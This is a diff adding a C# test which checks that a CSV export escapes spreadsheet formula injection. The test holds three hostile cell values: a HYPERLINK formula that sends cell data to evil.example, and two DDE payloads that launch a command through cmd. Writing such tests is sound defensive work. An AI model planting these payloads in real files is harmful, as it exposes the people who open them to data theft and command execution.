@@ -120,4 +120,29 @@ public sealed class ProductSecurityTests(DataProductApps apps) : IClassFixture<D
         content.Headers.Add("Idempotency-Key", key);
         return content;
     }
+
+    [Fact]
+    public async Task Csv_cells_that_a_spreadsheet_would_run_as_formulas_are_written_as_text()
+    {
+        var writer = apps.Client("marketing", "writer");
+        const string hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
+        const string command = "+cmd|' /C calc'!A0";
+        const string at = "@SUM(1+1)*cmd|' /C calc'!A0";
+        var created = await (await writer.PostAsync("/leads", Body(
+            $$"""{"firstName": "Eve", "lastName": "Mallory", "email": "{{Guid.NewGuid():N}}@example.com", "company": {{Json(hyperlink)}}, "jobTitle": {{Json(command)}}, "country": {{Json(at)}}, "leadSource": "LinkedIn", "leadScore": 5}""")))
+            .JsonAsync(HttpStatusCode.Created);
+        var id = created.GetProperty("leadId").GetInt64();
+
+        var request = new HttpRequestMessage(HttpMethod.Get, $"/datasets/leads/rows?lead_id={id}&fields=company,job_title,country");
+        request.Headers.Accept.ParseAdd("text/csv");
+        var lines = (await (await apps.Client("marketing").SendAsync(request)).Content.ReadAsStringAsync()).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
+        Assert.Equal(["company,job_title,country", $"\"'{hyperlink.Replace("\"", "\"\"")}\",'{command},'{at}"], lines);
+
+        // The database and JSON keep the text as written; phone numbers and signed numbers stay as they are in CSV.
+        Assert.Equal(hyperlink, await apps.Databases.ScalarAsync<string>("marketing", $"SELECT company FROM leads WHERE lead_id = {id}"));
+        var phones = new HttpRequestMessage(HttpMethod.Get, "/datasets/customers/rows?fields=customer_id,phone&limit=3");
+        phones.Headers.Accept.ParseAdd("text/csv");
+        var phoneLines = (await (await apps.Client("sales", "pii-reader").SendAsync(phones)).Content.ReadAsStringAsync()).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
+        Assert.All(phoneLines.Skip(1), line => Assert.Matches(@"^\d+,\+\d[\d ]+$", line));
+    }
 }
